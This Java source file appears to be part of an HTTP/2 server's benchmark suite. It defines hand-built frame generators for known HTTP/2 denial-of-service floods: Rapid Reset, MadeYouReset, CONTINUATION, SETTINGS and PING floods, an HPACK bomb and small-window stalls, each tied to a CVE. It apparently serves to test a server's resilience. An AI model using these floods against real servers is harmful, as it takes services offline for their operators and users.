package io.sessiongate.benchmarks.floods;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import java.nio.charset.StandardCharsets;
import java.util.Locale;

/**
 * A way to make a server of HTTP/2 work for nothing (RFC 9113 section 10.5). Each writes one blow at a time into what a connection
 * sends next; the frames are written by hand, as no decent library writes them.
 */
enum Flood {

    /** A request and its reset, again and again (CVE-2023-44487). */
    RAPID_RESET {
        @Override
        void blow(ByteBuf out, int number) {
            get(out, stream(number), END_STREAM | END_HEADERS);
            frame(out, 4, RST_STREAM, 0, stream(number)).writeInt(CANCEL);
        }
    },

    /** A request and a frame that the server has to answer with a reset (CVE-2025-8671). */
    MADE_YOU_RESET {
        @Override
        void blow(ByteBuf out, int number) {
            get(out, stream(number), END_HEADERS);
            frame(out, 4, WINDOW_UPDATE, 0, stream(number)).writeInt(0);
        }
    },

    /** A header block that never ends (CVE-2024-24549 and its likes). */
    CONTINUATION {
        @Override
        void blow(ByteBuf out, int number) {
            if (number == 0) {
                get(out, 1, END_STREAM);
            }
            frame(out, 0, CONTINUATION_FRAME, 0, 1);
        }
    },

    /** Settings, each of which has to be acknowledged (CVE-2019-9515). */
    SETTINGS {
        @Override
        void blow(ByteBuf out, int number) {
            frame(out, 0, SETTINGS_FRAME, 0, 0);
        }
    },

    /** Pings, each of which has to be answered (CVE-2019-9512). */
    PING {
        @Override
        void blow(ByteBuf out, int number) {
            frame(out, 8, PING_FRAME, 0, 0).writeLong(number);
        }
    },

    /** A body of frames with nothing in them (CVE-2019-9518). */
    EMPTY_DATA {
        @Override
        void blow(ByteBuf out, int number) {
            if (number == 0) {
                get(out, 1, END_HEADERS);
            }
            frame(out, 0, DATA, 0, 1);
        }
    },

    /** Priorities of streams that do not exist. */
    PRIORITY {
        @Override
        void blow(ByteBuf out, int number) {
            frame(out, 5, PRIORITY_FRAME, 0, stream(number)).writeInt(0).writeByte(16);
        }
    },

    /** A large field in the table of HPACK, and then ten thousand times one octet that stands for it. */
    HPACK_BOMB {
        @Override
        void blow(ByteBuf out, int number) {
            if (number == 0) {
                int at = begin(out);
                out.writeBytes(GET);
                out.writeByte(0x40);
                text(out, "x-bomb");
                text(out, "x".repeat(3_900));
                end(out, at, HEADERS, END_STREAM | END_HEADERS, 1);
            } else {
                int at = begin(out);
                out.writeBytes(GET);
                for (int i = 0; i < 10_000; i++) {
                    out.writeByte(0x80 | 62);
                }
                end(out, at, HEADERS, END_STREAM | END_HEADERS, stream(number));
            }
        }
    },

    /** Large answers are asked for, and the window is opened by an octet at a time (CVE-2019-9511, CVE-2019-9517). */
    SMALL_WINDOWS {
        @Override
        void settings(ByteBuf out) {
            frame(out, 6, SETTINGS_FRAME, 0, 0).writeShort(INITIAL_WINDOW_SIZE).writeInt(0);
        }

        @Override
        void blow(ByteBuf out, int number) {
            if (number < STREAMS) {
                int at = begin(out);
                out.writeBytes(GET_LARGE);
                end(out, at, HEADERS, END_STREAM | END_HEADERS, stream(number));
            } else {
                frame(out, 4, WINDOW_UPDATE, 0, stream(number % STREAMS)).writeInt(1);
            }
        }
    };

    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int PRIORITY_FRAME = 2;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS_FRAME = 4;
    private static final int PING_FRAME = 6;
    private static final int WINDOW_UPDATE = 8;
    private static final int CONTINUATION_FRAME = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int CANCEL = 8;
    private static final int INITIAL_WINDOW_SIZE = 4;
    private static final int STREAMS = 50;
    private static final int FRAME_HEAD = 9;
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final byte[] GET = block("/small");
    private static final byte[] GET_LARGE = block("/large");

    /** Writes what comes {@code number}-th on a connection, from 0. */
    abstract void blow(ByteBuf out, int number);

    /** Writes what a connection begins with. */
    final void preface(ByteBuf out) {
        out.writeBytes(PREFACE);
        settings(out);
    }

    void settings(ByteBuf out) {
        frame(out, 0, SETTINGS_FRAME, 0, 0);
    }

    @Override
    public String toString() {
        return name().toLowerCase(Locale.ROOT).replace('_', ' ');
    }

    private static int stream(int number) {
        return 2 * number + 1;
    }

    private static void get(ByteBuf out, int stream, int flags) {
        frame(out, GET.length, HEADERS, flags, stream).writeBytes(GET);
    }

    private static ByteBuf frame(ByteBuf out, int length, int type, int flags, int stream) {
        return out.writeMedium(length).writeByte(type).writeByte(flags).writeInt(stream);
    }

    /** Leaves room for the head of a frame whose length is not known yet. */
    private static int begin(ByteBuf out) {
        int at = out.writerIndex();
        out.writeZero(FRAME_HEAD);
        return at;
    }

    private static void end(ByteBuf out, int at, int type, int flags, int stream) {
        int length = out.writerIndex() - at - FRAME_HEAD;
        out.setMedium(at, length).setByte(at + 3, type).setByte(at + 4, flags).setInt(at + 5, stream);
    }

    /** {@code GET path} by the static table of RFC 7541, the rest as literals that no table keeps. */
    private static byte[] block(String path) {
        ByteBuf out = Unpooled.buffer();
        out.writeByte(0x82).writeByte(0x86).writeByte(0x04);
        text(out, path);
        out.writeByte(0x01);
        text(out, "localhost");
        byte[] block = new byte[out.readableBytes()];
        out.readBytes(block);
        return block;
    }

    private static void text(ByteBuf out, String text) {
        if (text.length() < 127) {
            out.writeByte(text.length());
        } else {
            // An integer of more than its prefix (RFC 7541 section 5.1).
            out.writeByte(127);
            int rest = text.length() - 127;
            for (; rest >= 128; rest >>= 7) {
                out.writeByte((rest & 127) | 128);
            }
            out.writeByte(rest);
        }
        out.writeCharSequence(text, StandardCharsets.US_ASCII);
    }
}
